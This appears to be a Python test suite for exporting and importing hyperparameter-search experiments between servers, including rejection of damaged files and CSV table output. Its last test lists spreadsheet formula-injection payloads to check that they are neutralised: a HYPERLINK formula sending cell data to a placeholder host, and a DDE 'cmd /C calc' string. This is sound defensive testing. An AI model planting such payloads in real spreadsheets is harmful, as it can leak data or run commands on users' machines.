"""Export and import: a search continues elsewhere as it would have, and a damaged file changes nothing."""

import asyncio
import csv
import json
import math
import random
import struct
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from rungway_server.cli.enqueue import _assign
from rungway_server.cli.options import ExportFormat
from rungway_server.cli.tables import read_search, write_tables
from rungway_server.domain.documents.paths import spelled
from rungway_server.domain.engine import Assignment, ExperimentState, Outcome, Report, Result
from rungway_server.domain.errors import ExperimentExists, InvalidInput, NoTrialsLeft, UnknownExperiment, WrongState
from rungway_server.service.port import ExperimentRef
from rungway_server.service.trials import TrialUseCases
from rungway_server.store.redis.snapshot.export_file import BadExport, read_export
from rungway_server.store.redis.snapshot.import_file import import_experiment
from tests.integration.live_searches import create, halving
from tests.support.audited import assert_sound
from tests.support.calls import config
from tests.support.moving import Site, exported, move, with_end
from tests.support.players import Player, counted_from
from tests.support.searches import config_of
from tests.support.searches import plan as plan_of

POINTS = {
    "rate": {"type": "categorical", "vals": [0.001, 0.01, 0.1]},
    "layers": {"type": "int", "minval": 1, "maxval": 4, "count": 4},
}
SYNC = config("sync_halving", max_trials=27, num_rungs=3, divisor=3, max_length={"epochs": 9}, max_concurrent_trials=0)
SEARCHES = {
    "promotion": halving(60),
    "adaptive": config("adaptive_asha", max_trials=60, max_length={"epochs": 9}, divisor=3, max_concurrent_trials=12),
    "stopping": config("adaptive_asha", max_trials=60, max_length={"epochs": 9}, divisor=3, stop_once=True),
    "larger is better": halving(60, smaller_is_better=False),
    "synchronous": SYNC,
    "grid": config("grid", space=POINTS, num_samples=5, max_trials=60, max_concurrent_trials=0),
    "small space": config(space=POINTS, max_trials=60, max_concurrent_trials=0),
}
LATER: dict[str, Any] = {
    "width": {"type": "log_int", "minval": 1, "maxval": 4096, "step": 3},
    "beta": {"type": "reverse_log_uniform", "minval": 0.9, "maxval": 0.9999},
    "noise": {"type": "normal", "mu": 0.0, "sigma": 1.0, "maxval": 1.0},
    "scale": {"type": "lognormal", "mu": -3.0, "sigma": 1.0},
    "size": {"type": "ordinal", "vals": ["s", "m", "l"], "weights": [1, 2, 3]},
}
SEARCHES["later kinds"] = config(space=LATER, max_trials=60, max_concurrent_trials=0)
SEARCHES["uneven points"] = config(
    space={"size": LATER["size"], "width": LATER["width"] | {"maxval": 99}},
    max_trials=60,
    max_concurrent_trials=0,
)
METRICS = [0.1, 1 / 3, 5e-324, 1.7976931348623157e308, -2.5, math.nan, math.inf, -math.inf, 0.1 + 0.2]


class Worker(Player):
    """Fails now and then, and tells metrics of every kind."""

    async def answer(self, given: Assignment) -> None:
        luck = self.rng.random()
        if luck < 0.06:
            outcome = self.rng.choice([Outcome.ERROR, Outcome.INVALID, Outcome.TRANSIENT])
            failed = await self.store.fail(self.ref, "", given.lease, outcome, "broken ä")
            self.heard(given, 0, *failed)
        else:
            metric = self.rng.choice([*METRICS, *(self.rng.random() for _ in range(20))])
            over, length = luck < 0.15, given.next_decision_length
            if over:  # the training ends by itself there
                length = self.rng.randint(given.from_length + 1, length)
            result = Result(given.lease, [Report(length, metric)], f"at {length}", over)
            told = await self.store.tell(self.ref, "", [result])
            self.heard(given, length, told.replies[0], told.revision)


@pytest.mark.parametrize("name", SEARCHES)
@pytest.mark.parametrize("half", [0, 25, pytest.param(90, marks=pytest.mark.long)])
async def test_a_search_goes_on_as_it_would_have(
    name: str, half: int, sites: tuple[Site, Site], ref: ExperimentRef
) -> None:
    here, there = sites
    await create(here.store, ref, SEARCHES[name])
    original = Worker(here.store, ref, random.Random(half))
    await original.play(half)
    with suppress(WrongState, NoTrialsLeft, InvalidInput):
        await here.store.enqueue(ref, "", {"layers": 2, "rate": 0.001})
    await move(here, ref, there)
    released = await original.give_all_back()
    players = [Worker(site.store, ref, random.Random(half + 1)) for site in sites]
    for player in players:
        await player.play(200)
    assert counted_from(players[0].said, released) == counted_from(players[1].said, min(released, 1))
    views = [await site.store.trials(ref, list(range(60)), curve=True) for site in sites]
    of_both = [[repr(replace(view, created_ms=0, curve=[*view.curve])) for view in each] for each in views]
    assert of_both[0] == of_both[1]
    histories = [await site.store.explain(ref, 0) for site in sites]
    explained = [repr([event.explanation for event in history]) for history, _ in histories]
    assert explained[0] == explained[1]
    await assert_sound(there.url, ref.experiment)


async def test_a_search_that_paused_itself_arrives_with_its_reason(
    sites: tuple[Site, Site], ref: ExperimentRef, tmp_path: Path
) -> None:
    here, there = sites
    await create(here.store, ref, halving(60) | {"pause_after_failures": 2})
    for number in range(2):
        (given,) = (await here.store.ask(ref, "", 1, "a worker")).assignments
        await here.store.fail(ref, "", given.lease, Outcome.ERROR, f"KeyError ä {number}")
    text = await move(here, ref, there)
    for site in sites:
        assert (await site.store.progress(ref)).failing == "KeyError ä 1"
        assert (await site.store.events(ref, "", 99))[0][-1].message == "KeyError ä 1"
    write_tables(read_search([text]), ExportFormat.CSV, tmp_path)
    with (tmp_path / "events.csv").open(newline="") as stream:
        *_, last = csv.DictReader(stream)
    assert (last["kind"], last["message"]) == ("failing", "KeyError ä 1")


async def test_every_float_comes_back_bit_by_bit(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
    here, there = sites
    rng = random.Random(3)
    metrics = [struct.unpack(">d", rng.randbytes(8))[0] for _ in range(300)]
    metrics = [math.nan if math.isnan(metric) else metric for metric in metrics] + METRICS
    plan = plan_of((len(metrics) + 1,), trials=1)
    await here.store.create(ref, config_of(plan), plan, (), "")
    (given,) = (await here.store.ask(ref, "", 1, "w")).assignments
    reports = [Report(length, metric) for length, metric in enumerate(metrics, 1)]
    await here.store.tell(ref, "", [Result(given.lease, reports)])
    await move(here, ref, there)
    (view,) = await there.store.trials(ref, [0], curve=True)
    assert [repr(report.metric) for report in view.curve] == [repr(metric) for metric in metrics]


async def test_an_old_lease_is_superseded_after_an_import(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
    here, there = sites
    await create(here.store, ref, halving(9))
    (given,) = (await here.store.ask(ref, "", 1, "w")).assignments
    await move(here, ref, there)
    (again,) = (await there.store.ask(ref, "", 1, "w")).assignments
    assert (again.lease.trial, again.restarts) == (given.lease.trial, 0)
    assert again.lease.fencing_token > given.lease.fencing_token
    replies = (await there.store.tell(ref, "", [Result(given.lease, [Report(1, 0.5)])])).replies
    assert replies[0].decision.value == "superseded"


async def test_a_stopped_search_comes_back_stopped(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
    here, there = sites
    await create(here.store, ref, halving(9))
    await here.store.ask(ref, "", 3, "w")
    await here.store.set_state(ref, ExperimentState.STOPPED)
    await move(here, ref, there, "another")
    assert (await there.store.progress(ExperimentRef("default", "another"))).state is ExperimentState.STOPPED


async def test_a_name_in_use_is_refused(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
    here, there = sites
    await create(here.store, ref, halving(9))
    await create(there.store, ref, halving(3))
    with pytest.raises(ExperimentExists):
        await move(here, ref, there)
    assert (await there.store.definition(ref, fresh=True)).plan.max_trials == 3
    with pytest.raises(InvalidInput):
        await move(here, ref, there, "Not An Id")


def changed(text: str, change: Callable[[dict[str, Any]], object], which: str) -> str:
    """The file with one record changed and a valid last line."""
    lines = [json.loads(line) for line in text.splitlines()[:-1]]
    change(next(line for line in lines if which in line))
    return "".join(with_end([json.dumps(line) + "\n" for line in lines]))


DAMAGES: dict[str, Callable[[str], str]] = {
    "empty": lambda text: "",
    "no export": lambda text: '{"a": 1}\n',
    "no JSON": lambda text: "hello\n",
    "cut off in a line": lambda text: text[: len(text) // 2],
    "cut off after a line": lambda text: "".join(text.splitlines(keepends=True)[:-1]),
    "a line is missing": lambda text: "".join(text.splitlines(keepends=True)[:5] + text.splitlines(keepends=True)[6:]),
    "a digit is another": lambda text: text.replace('"restarts": 0', '"restarts": 1', 1),
    "lines after the end": lambda text: text + "{}\n",
    "a newer format": lambda text: changed(text, lambda line: line.update(rungway_export=8), "rungway_export"),
    "the format is true": lambda text: changed(text, lambda line: line.update(rungway_export=True), "rungway_export"),
    "the format is 1.0": lambda text: changed(text, lambda line: line.update(rungway_export=1.0), "rungway_export"),
    "a field is missing": lambda text: changed(text, lambda line: line.pop("state"), "hparams"),
    "a field is of another type": lambda text: changed(text, lambda line: line.update(rung="x"), "hparams"),
    "it contradicts itself": lambda text: changed(
        text, lambda line: line["search"]["tally"].update(started=[7]), "search"
    ),
    "no plan": lambda text: changed(text, lambda line: line["search"].pop("plan"), "search"),
    "a wrong configuration": lambda text: changed(text, lambda line: line["search"].update(config={}), "search"),
}


@pytest.mark.parametrize("name", DAMAGES)
async def test_a_damaged_file_leaves_nothing_behind(name: str, sites: tuple[Site, Site], ref: ExperimentRef) -> None:
    here, there = sites
    await create(here.store, ref, halving(9))
    await Worker(here.store, ref, random.Random(1)).play(10)
    text = DAMAGES[name](await exported(here.store, ref))
    with pytest.raises(BadExport):
        await import_experiment(there.redis, ref, read_export(text.splitlines(keepends=True)))
    assert await there.redis.keys("*") == []


async def test_what_is_exported_is_of_one_moment(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
    """Each export is sound even while workers work."""
    here, there = sites
    await create(here.store, ref, halving(200))
    players = [Worker(here.store, ref, random.Random(number)) for number in range(4)]
    playing = [asyncio.ensure_future(player.play(100)) for player in players]
    for number in range(5):
        await move(here, ref, there, f"copy-{number}")
    await asyncio.gather(*playing)


async def test_nothing_to_export(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
    with pytest.raises(UnknownExperiment):
        await exported(sites[0].store, ref)


async def test_tables(sites: tuple[Site, Site], ref: ExperimentRef, tmp_path: Path) -> None:
    here, _ = sites
    await create(here.store, ref, halving(9))
    await Worker(here.store, ref, random.Random(1)).play(30)
    text = await exported(here.store, ref)
    pieces: Iterator[str] = iter([text[at : at + 97] for at in range(0, len(text), 97)])
    write_tables(read_search(pieces), ExportFormat.CSV, tmp_path / "tables")
    with (tmp_path / "tables" / "trials.csv").open(newline="") as stream:
        trials = list(csv.DictReader(stream))
    views = await here.store.trials(ref, list(range(20)), curve=True)
    assert [int(trial["number"]) for trial in trials] == [view.trial for view in views]
    assert [float(trial["hparams.rate"]) for trial in trials] == [view.hparams["rate"] for view in views]
    with (tmp_path / "tables" / "curves.csv").open(newline="") as stream:
        curves = [
            (int(row["number"]), int(row["length"]), repr(float(row["metric"]))) for row in csv.DictReader(stream)
        ]
    assert curves == [(view.trial, point.length, repr(point.metric)) for view in views for point in view.curve]
    with (tmp_path / "tables" / "events.csv").open(newline="") as stream:
        assert len(list(csv.DictReader(stream))) == text.count('{"event"')


ODD_NAMES = ("learning-rate", "weight.decay", "a=b", "a/b", "batch size", "a`b")


async def test_names_of_any_kind_are_enqueued_and_exported_by_one_spelling(
    sites: tuple[Site, Site], ref: ExperimentRef, tmp_path: Path
) -> None:
    """`--set` accepts the names of the columns, and no two parameters share a name."""
    here, there = sites
    unit = {"type": "double", "minval": 0, "maxval": 1}
    kind = {"type": "categorical", "vals": ["a", "b"]}
    space: dict[str, Any] = {name: unit for name in ODD_NAMES} | {"weight": {"decay": unit}}
    space |= {"g.h": {"a=b": unit, "kind": kind}, "x": unit | {"when": {"`g.h`.kind": "b"}}}
    await create(here.store, ref, config("random", space=space, max_trials=4) | {"constraints": ["`a=b` <= 0.9"]})
    texts = [*map(spelled, ODD_NAMES), "weight.decay", "`g.h`.`a=b`"]
    values = {text: number / 10 for number, text in enumerate(texts)}
    hparams: dict[str, Any] = {}
    _assign(hparams, [*(f"{text}={number}" for text, number in values.items()), "`g.h`.kind=a"])
    assert hparams["weight.decay"] != hparams["weight"]["decay"]
    await TrialUseCases(here.store).enqueue(ref, "", hparams)
    [work] = (await here.store.ask(ref, "", 1, "w")).assignments
    assert work.hparams == hparams
    text = await exported(here.store, ref)
    write_tables(read_search([text]), ExportFormat.CSV, tmp_path)
    with (tmp_path / "trials.csv").open(newline="") as stream:
        [row] = csv.DictReader(stream)
    assert {name.removeprefix("hparams."): row[name] for name in row if name.startswith("hparams.")} == {
        **{text: str(number) for text, number in values.items()},
        "`g.h`.kind": "a",
    }
    await move(here, ref, there, "copy")
    copied = await there.store.definition(ExperimentRef(ref.namespace, "copy"))
    assert copied.config == (await here.store.definition(ref)).config


FORMULAS = ['=HYPERLINK("http://h/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


async def test_no_cell_of_a_table_begins_like_a_formula(
    sites: tuple[Site, Site], ref: ExperimentRef, tmp_path: Path
) -> None:
    """Workers, their messages, values and names of hyperparameters; numbers stay numbers."""
    here, _ = sites
    space = {"=name": {"type": "categorical", "vals": FORMULAS}, "shift": {"type": "categorical", "vals": [-1, -0.5]}}
    await create(here.store, ref, config("random", space=space, max_trials=12))
    for worker in FORMULAS:
        [work] = (await here.store.ask(ref, "", 1, worker)).assignments
        await here.store.fail(ref, "", work.lease, Outcome.ERROR, worker)
    write_tables(read_search([await exported(here.store, ref)]), ExportFormat.CSV, tmp_path)
    cells = []
    for name in ("trials.csv", "curves.csv", "events.csv"):
        with (tmp_path / name).open(newline="") as stream:
            cells += [cell for row in csv.reader(stream) for cell in row]
    assert [cell for cell in cells if cell[:1] in tuple("=+@\t\r")] == []
    assert {cell for cell in cells if cell.startswith("-")} <= {"-1", "-0.5", "-Infinity"}
    assert {f"'{text}" for text in FORMULAS} <= set(cells)
